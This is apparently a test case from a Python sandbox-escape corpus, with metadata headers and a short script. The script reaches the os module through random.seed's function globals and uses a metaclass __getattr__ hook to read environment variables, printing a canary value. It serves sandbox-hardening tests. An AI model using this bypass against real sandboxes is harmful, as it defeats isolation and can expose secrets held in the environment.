# id: metaclass-getattr-hook
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: __getattr__ of a metaclass turns the read of a class attribute into a call: here a lookup in the environment
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random


class Meta(type):
    __getattr__ = random.seed.__func__.__globals__["_os"].environ.get


class Environment(metaclass=Meta):
    pass


print(Environment.PADCELL_CANARY)
